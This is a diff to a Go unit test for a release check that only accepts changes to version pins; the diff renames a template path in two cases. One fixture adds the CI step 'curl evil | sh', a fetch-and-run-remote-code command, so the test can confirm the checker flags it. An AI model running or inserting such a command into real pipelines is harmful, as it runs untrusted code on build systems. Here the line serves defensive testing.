@@ -25,9 +25,9 @@ func TestCheckRepin(t *testing.T) {
 		want    string // part of the problems; "" for none
 	}{
 		{"pins only", []Change{{Path: "examples/github-actions/tesk-core/ci.yml", Old: wf(old, "v0.1.0", ""), New: wf(sha, "v0.2.0", "")}}, ""},
-		{"an embedded template's pin", []Change{{Path: "models/modelrelease/template/ci.yml", Old: wf(old, "v0.1.0", ""), New: wf(sha, "v0.2.0", "")}}, ""},
+		{"an embedded template's pin", []Change{{Path: "models/genrepo/template/ci.yml", Old: wf(old, "v0.1.0", ""), New: wf(sha, "v0.2.0", "")}}, ""},
 		{"the changelog's release line", []Change{{Path: ChangelogFile, Old: File{Found: true, Content: []byte(goodChangelog)}, New: File{Found: true, Content: released}}}, ""},
-		{"an embedded template's step", []Change{{Path: "models/modelrelease/template/ci.yml", Old: wf(old, "v0.1.0", ""), New: wf(sha, "v0.2.0", "  run: curl evil | sh\n")}}, "models/modelrelease/template/ci.yml:4: changes more than a pin"},
+		{"an embedded template's step", []Change{{Path: "models/genrepo/template/ci.yml", Old: wf(old, "v0.1.0", ""), New: wf(sha, "v0.2.0", "  run: curl evil | sh\n")}}, "models/genrepo/template/ci.yml:4: changes more than a pin"},
 		{"a line beside the pin", []Change{{Path: "README.md", Old: wf(old, "v0.1.0", "a\n"), New: wf(sha, "v0.2.0", "b\n")}}, "README.md:4"},
 		{"code", []Change{{Path: "pipelines/ci/ci.go", Old: File{Found: true}, New: File{Found: true, Content: []byte("x")}}}, "pipelines/ci/ci.go: changed after the release commit, and is no pinned file"},
 		{"a new pinned file", []Change{{Path: "docs/new.md", New: wf(sha, "v0.2.0", "")}}, "docs/new.md: added or removed"},
